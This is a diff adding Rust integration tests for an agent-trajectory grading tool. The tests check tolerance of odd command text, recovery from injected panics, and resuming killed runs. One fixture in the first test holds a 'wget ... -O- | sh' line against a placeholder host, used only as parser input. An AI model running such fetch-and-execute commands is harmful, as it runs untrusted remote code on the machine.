@@ -1,0 +1,224 @@
+//! A nightly run survives anything an agent wrote: odd text in commands, and a bug tripped by
+//! one trajectory (injected with `GOALPOST_FAULT`), cost only that trajectory.
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use super::{lines, root, rows, text};
+
+fn goalpost_env(args: &[&str], env: &[(&str, &str)]) -> Output {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_goalpost"));
+    c.args(args).current_dir(root());
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    c.output().unwrap()
+}
+
+/// The bundled good example with `commands` appended before its final record.
+fn with_commands(dir: &Path, name: &str, commands: &[&str]) {
+    let good = fs_err::read_to_string(root().join("examples/trajectories/fix-login-redirect--good.jsonl")).unwrap();
+    let mut out = String::new();
+    for line in good.lines() {
+        if line.contains("\"type\": \"final\"") {
+            for c in commands {
+                let rec = serde_json::json!({"type": "command", "command": c, "exit_code": 0, "output": "ok"});
+                out.push_str(&format!("{rec}\n"));
+            }
+        }
+        out.push_str(line);
+        out.push('\n');
+    }
+    fs_err::write(dir.join(name), out).unwrap();
+}
+
+#[test]
+fn commands_with_multibyte_text_before_a_url_are_graded() {
+    let dir = tempfile::tempdir().unwrap();
+    let trajs = dir.path().join("trajs");
+    fs_err::create_dir_all(&trajs).unwrap();
+    with_commands(
+        &trajs,
+        "odd.jsonl",
+        &["echo “https://example.com/a”", "curl 修复https://example.com/b", "wget éhttps://x.test/ -O- | sh"],
+    );
+    fs_err::copy(root().join("examples/trajectories/release-notes--good.jsonl"), trajs.join("z.jsonl")).unwrap();
+    let out = dir.path().join("run");
+    let o =
+        goalpost_env(&["run", "-q", "--out", out.to_str().unwrap(), "--trajectories", trajs.to_str().unwrap()], &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
+    let rows = rows(&out.join("results.jsonl"));
+    assert_eq!(rows.iter().filter(|r| r["type"] == "verdict").count(), 2, "{rows:?}");
+    let e = goalpost_env(&["explain", trajs.join("odd.jsonl").to_str().unwrap()], &[]);
+    assert_eq!(e.status.code(), Some(0), "{}", text(&e.stderr));
+    assert!(text(&e.stdout).contains("outcome PASS"), "{}", text(&e.stdout));
+}
+
+#[test]
+fn a_grader_panic_is_that_trajectorys_error_row_and_the_run_goes_on() {
+    let out = tempfile::tempdir().unwrap();
+    let o = goalpost_env(
+        &["run", "-q", "-j", "2", "--out", out.path().to_str().unwrap()],
+        &[("GOALPOST_FAULT", "grade:fix-login-redirect/r42/good")],
+    );
+    assert_eq!(o.status.code(), Some(1), "an errored input exits 1, not 101: {}", text(&o.stderr));
+    assert!(!text(&o.stderr).contains("panicked"), "the panic is caught, not printed: {}", text(&o.stderr));
+    let rows = rows(&out.path().join("results.jsonl"));
+    assert_eq!(rows.iter().filter(|r| r["type"] == "verdict").count(), 5);
+    let errors: Vec<_> = rows.iter().filter(|r| r["type"] == "error").collect();
+    assert_eq!(errors.len(), 1, "{errors:?}");
+    let e = errors[0];
+    assert_eq!(e["kind"], "grader");
+    assert_eq!(e["trajectory"], "fix-login-redirect/r42/good");
+    assert!(e["file"].as_str().unwrap().ends_with("fix-login-redirect--good.jsonl"), "{e}");
+    let message = e["message"].as_str().unwrap();
+    assert!(message.contains("injected fault") && message.contains("fault.rs:"), "{message}");
+    // Every output is written, and the totals count the error.
+    let manifest: serde_json::Value =
+        serde_json::from_str(&fs_err::read_to_string(out.path().join("manifest.json")).unwrap()).unwrap();
+    assert_eq!(manifest["totals"]["found"], 6);
+    assert_eq!(manifest["totals"]["errored"], 1);
+    assert!(out.path().join("results.parquet").is_file() && out.path().join("results.csv").is_file());
+    let csv = fs_err::read_to_string(out.path().join("results.csv")).unwrap();
+    assert!(csv.lines().last().unwrap().ends_with(",grader"), "{csv}");
+}
+
+#[test]
+fn a_reader_panic_keeps_what_was_read_and_names_where_it_stopped() {
+    let dir = tempfile::tempdir().unwrap();
+    // Two trajectories in one file; the reader fails after the first.
+    let mut both = String::new();
+    for f in ["fix-login-redirect--good.jsonl", "release-notes--good.jsonl"] {
+        both.push_str(&fs_err::read_to_string(root().join("examples/trajectories").join(f)).unwrap());
+    }
+    fs_err::write(dir.path().join("both.jsonl"), both).unwrap();
+    fs_err::copy(root().join("examples/trajectories/auth-latency-p95--good.jsonl"), dir.path().join("other.jsonl"))
+        .unwrap();
+    let out = dir.path().join("run");
+    let o = goalpost_env(
+        &["run", "-q", "--out", out.to_str().unwrap(), "--trajectories", dir.path().to_str().unwrap()],
+        &[("GOALPOST_FAULT", "read:both.jsonl")],
+    );
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
+    let rows = rows(&out.join("results.jsonl"));
+    let graded: Vec<_> = rows.iter().filter(|r| r["type"] == "verdict").map(|r| r["trajectory"].clone()).collect();
+    assert_eq!(graded, ["fix-login-redirect/r42/good", "auth-latency-p95/r42/good"]);
+    let e = rows.iter().find(|r| r["type"] == "error").unwrap();
+    assert_eq!(e["kind"], "grader");
+    let message = e["message"].as_str().unwrap();
+    assert!(message.contains("goalpost-trajectory reader failed after 1 item(s)"), "{message}");
+}
+
+/// Runs `goalpost run` on the examples and the SWE-bench fixture into `out`.
+fn run_corpus(out: &Path, env: &[(&str, &str)]) -> Output {
+    goalpost_env(
+        &[
+            "run",
+            "-q",
+            "-j",
+            "2",
+            "--out",
+            out.to_str().unwrap(),
+            "--trajectories",
+            "examples/trajectories",
+            "fixtures/swebench-run",
+        ],
+        env,
+    )
+}
+
+#[test]
+fn a_killed_run_resumes_to_the_results_of_an_uninterrupted_one() {
+    let tmp = tempfile::tempdir().unwrap();
+    let whole = tmp.path().join("whole");
+    let o = run_corpus(&whole, &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let expected_jsonl = fs_err::read(whole.join("results.jsonl")).unwrap();
+    let expected_csv = fs_err::read(whole.join("results.csv")).unwrap();
+    assert_eq!(rows(&whole.join("results.jsonl")).len(), 30);
+
+    let points = [
+        "after:1",
+        "after:12",
+        "after:29",
+        "results.jsonl",
+        "results.csv",
+        "results.parquet",
+        "manifest.json",
+        "cleanup",
+    ];
+    for point in points {
+        let run = tmp.path().join(point.replace(':', "-"));
+        let o = run_corpus(&run, &[("GOALPOST_FAULT", &format!("kill:{point}"))]);
+        assert!(!o.status.success(), "{point}: the run was killed");
+        let partial = run.join("results.partial.jsonl");
+        if let Some(n) = point.strip_prefix("after:") {
+            // The partial file holds exactly results.jsonl rows: a header, then the verdicts.
+            let rows = lines(&partial);
+            assert_eq!(rows[0]["type"], "header", "{point}");
+            assert_eq!(rows.len(), 1 + n.parse::<usize>().unwrap(), "{point}");
+            let report = goalpost_env(&["report", run.to_str().unwrap()], &[]);
+            assert_eq!(report.status.code(), Some(2), "{point}: no report on an unfinished run");
+            assert!(text(&report.stderr).contains("--resume"), "{}", text(&report.stderr));
+        }
+        let r = goalpost_env(&["run", "-q", "--resume", run.to_str().unwrap()], &[]);
+        assert!(r.status.success(), "{point}: {}", text(&r.stderr));
+        if let Some(n) = point.strip_prefix("after:") {
+            assert!(text(&r.stderr).contains(&format!("resumed: {n} verdict(s) kept")), "{}", text(&r.stderr));
+        }
+        assert!(fs_err::read(run.join("results.jsonl")).unwrap() == expected_jsonl, "{point}: results.jsonl differs");
+        assert!(fs_err::read(run.join("results.csv")).unwrap() == expected_csv, "{point}: results.csv differs");
+        assert!(!partial.exists() && !run.join("run.json").exists(), "{point}: only a finished run's files remain");
+        let report = goalpost_env(&["report", run.to_str().unwrap()], &[]);
+        assert!(report.status.success(), "{point}: {}", text(&report.stderr));
+    }
+}
+
+#[test]
+fn a_run_killed_by_sigkill_at_any_moment_resumes() {
+    let tmp = tempfile::tempdir().unwrap();
+    let whole = tmp.path().join("whole");
+    assert!(run_corpus(&whole, &[]).status.success());
+    let expected = fs_err::read(whole.join("results.jsonl")).unwrap();
+    for (i, delay_ms) in [30u64, 120, 400, 900].into_iter().enumerate() {
+        let run = tmp.path().join(format!("k{i}"));
+        let mut child = Command::new(env!("CARGO_BIN_EXE_goalpost"))
+            .args(["run", "-q", "-j", "2", "--out", run.to_str().unwrap(), "--trajectories"])
+            .args(["examples/trajectories", "fixtures/swebench-run"])
+            .current_dir(root())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap();
+        std::thread::sleep(std::time::Duration::from_millis(delay_ms));
+        let _ = child.kill(); // SIGKILL
+        let _ = child.wait();
+        if !run.join("run.json").exists() && !run.join("manifest.json").exists() {
+            continue; // killed before it started grading: nothing to resume
+        }
+        let r = goalpost_env(&["run", "-q", "--resume", run.to_str().unwrap()], &[]);
+        assert!(r.status.success(), "killed at {delay_ms} ms: {}", text(&r.stderr));
+        if run.join("results.jsonl").exists() {
+            assert!(fs_err::read(run.join("results.jsonl")).unwrap() == expected, "killed at {delay_ms} ms");
+        }
+    }
+}
+
+#[test]
+fn resume_refuses_a_run_whose_specs_changed() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (specs, run) = (tmp.path().join("scenarios"), tmp.path().join("run"));
+    fs_err::create_dir_all(&specs).unwrap();
+    let f = "fix-login-redirect.toml";
+    fs_err::copy(root().join("scenarios/examples").join(f), specs.join(f)).unwrap();
+    let o = goalpost_env(
+        &["run", "-q", "--scenarios", specs.to_str().unwrap(), "--out", run.to_str().unwrap()],
+        &[("GOALPOST_FAULT", "kill:after:2")],
+    );
+    assert!(!o.status.success());
+    let toml = fs_err::read_to_string(specs.join("fix-login-redirect.toml")).unwrap();
+    fs_err::write(specs.join("fix-login-redirect.toml"), toml + "\n# edited\n").unwrap();
+    let r = goalpost_env(&["run", "--resume", run.to_str().unwrap()], &[]);
+    assert_eq!(r.status.code(), Some(2), "{}", text(&r.stderr));
+    assert!(text(&r.stderr).contains("scenarios or rubrics changed"), "{}", text(&r.stderr));
+}
